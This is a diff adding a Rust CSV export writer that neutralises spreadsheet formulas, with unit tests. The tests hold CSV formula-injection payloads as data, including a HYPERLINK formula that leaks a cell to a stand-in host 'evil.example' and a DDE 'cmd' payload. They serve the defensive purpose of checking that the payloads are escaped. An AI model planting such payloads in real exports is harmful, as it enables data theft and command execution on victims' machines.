@@ -1,0 +1,148 @@
+//! The CSV writer: exports that investigators and banks open in a spreadsheet.
+//!
+//! Every cell (header included) goes through [`neutralize`] so nothing is evaluated
+//! as a formula; NUL characters are dropped (spreadsheets cut the cell there).
+//! Newlines inside cells are kept, quoted. Records end with `\n` (Excel and WPS read
+//! it; the csv crate's default). A UTF-8 BOM is written first only when asked — files
+//! get one so Excel on a Chinese Windows desktop does not read them as GBK; stdout
+//! does not.
+
+use std::borrow::Cow;
+use std::io::{self, Write};
+
+use super::{Cell, Listing, WriteOptions, neutralize};
+
+const BOM: &[u8] = b"\xEF\xBB\xBF";
+
+/// Ends the record whose fields were written one by one (no per-row allocation).
+fn end_record<W: Write>(w: &mut csv::Writer<W>) -> csv::Result<()> {
+    w.write_record(std::iter::empty::<&[u8]>())
+}
+
+fn csv_text(s: &str) -> Cow<'_, str> {
+    if s.contains('\0') {
+        let stripped = s.replace('\0', "");
+        Cow::Owned(neutralize(&stripped).into_owned())
+    } else {
+        neutralize(s)
+    }
+}
+
+fn csv_cell(cell: &Cell) -> Cow<'_, str> {
+    match cell {
+        Cell::Text(s) => csv_text(s),
+        // "-12.50" and "-3" are plain numbers; neutralize leaves them alone.
+        other => Cow::Owned(neutralize(&other.as_text()).into_owned()),
+    }
+}
+
+pub(super) fn write_csv(
+    listing: &Listing,
+    out: &mut dyn Write,
+    opts: &WriteOptions,
+) -> io::Result<()> {
+    if opts.bom {
+        out.write_all(BOM)?;
+    }
+    let ncols = listing.columns.len();
+    if ncols == 0 {
+        return Ok(());
+    }
+    let mut w = csv::WriterBuilder::new().from_writer(out);
+    for column in &listing.columns {
+        w.write_field(csv_text(column).as_bytes())?;
+    }
+    end_record(&mut w)?;
+    for row in &listing.rows {
+        for i in 0..ncols {
+            w.write_field(csv_cell(row.get(i).unwrap_or(&Cell::Empty)).as_bytes())?;
+        }
+        end_record(&mut w)?;
+    }
+    w.flush()
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn csv_string(listing: &Listing, bom: bool) -> String {
+        let mut out = Vec::new();
+        let opts = WriteOptions {
+            bom,
+            ..WriteOptions::default()
+        };
+        write_csv(listing, &mut out, &opts).unwrap();
+        String::from_utf8(out).unwrap()
+    }
+
+    fn read_back(text: &str) -> Vec<Vec<String>> {
+        csv::ReaderBuilder::new()
+            .has_headers(false)
+            .from_reader(text.as_bytes())
+            .records()
+            .map(|r| r.unwrap().iter().map(str::to_owned).collect())
+            .collect()
+    }
+
+    #[test]
+    fn formula_payloads_neutralised_numbers_kept() {
+        let mut l = Listing::new(["value", "amount"]);
+        let payloads = [
+            "=HYPERLINK(\"http://evil.example/?\"&A1,\"详情\")",
+            "@SUM(A1:A2)",
+            "+cmd|' /C calc'!A0",
+            "-1+1",
+            "\t=1",
+        ];
+        for p in payloads {
+            l.push_row([Cell::text(p), Cell::Yuan(Some(-1250))]);
+        }
+        l.push_row([Cell::text("+8613812345678"), Cell::Int(-3)]);
+        l.push_row([Cell::text("-12.50"), Cell::Empty]);
+        let records = read_back(&csv_string(&l, false));
+        assert_eq!(records[0], ["value", "amount"]);
+        for (i, p) in payloads.iter().enumerate() {
+            assert_eq!(records[i + 1][0], format!("'{p}"));
+            assert_eq!(records[i + 1][1], "-12.50");
+        }
+        assert_eq!(records[6], ["+8613812345678", "-3"]);
+        assert_eq!(records[7], ["-12.50", ""]);
+    }
+
+    #[test]
+    fn header_is_neutralised_too() {
+        let l = Listing::new(["=evil()", "ok"]);
+        assert_eq!(csv_string(&l, false), "'=evil(),ok\n");
+    }
+
+    #[test]
+    fn bom_only_when_asked() {
+        let mut l = Listing::new(["受害人"]);
+        l.push_row(["张**"]);
+        let with = csv_string(&l, true);
+        assert!(with.starts_with('\u{feff}'));
+        assert_eq!(with, "\u{feff}受害人\n张**\n");
+        let without = csv_string(&l, false);
+        assert!(!without.starts_with('\u{feff}'));
+        assert_eq!(without, "受害人\n张**\n");
+    }
+
+    #[test]
+    fn newlines_kept_quoted_and_nul_dropped() {
+        let mut l = Listing::new(["script", "n"]);
+        l.push_row([Cell::text("第一行\n第二行, \"引号\""), Cell::Int(1)]);
+        l.push_row([Cell::text("nul\0here"), Cell::Int(2)]);
+        let text = csv_string(&l, false);
+        assert_eq!(
+            text,
+            "script,n\n\"第一行\n第二行, \"\"引号\"\"\",1\nnulhere,2\n"
+        );
+        assert_eq!(read_back(&text)[1][0], "第一行\n第二行, \"引号\"");
+    }
+
+    #[test]
+    fn empty_listing_is_just_the_header() {
+        assert_eq!(csv_string(&Listing::new(["a", "b"]), false), "a,b\n");
+    }
+}
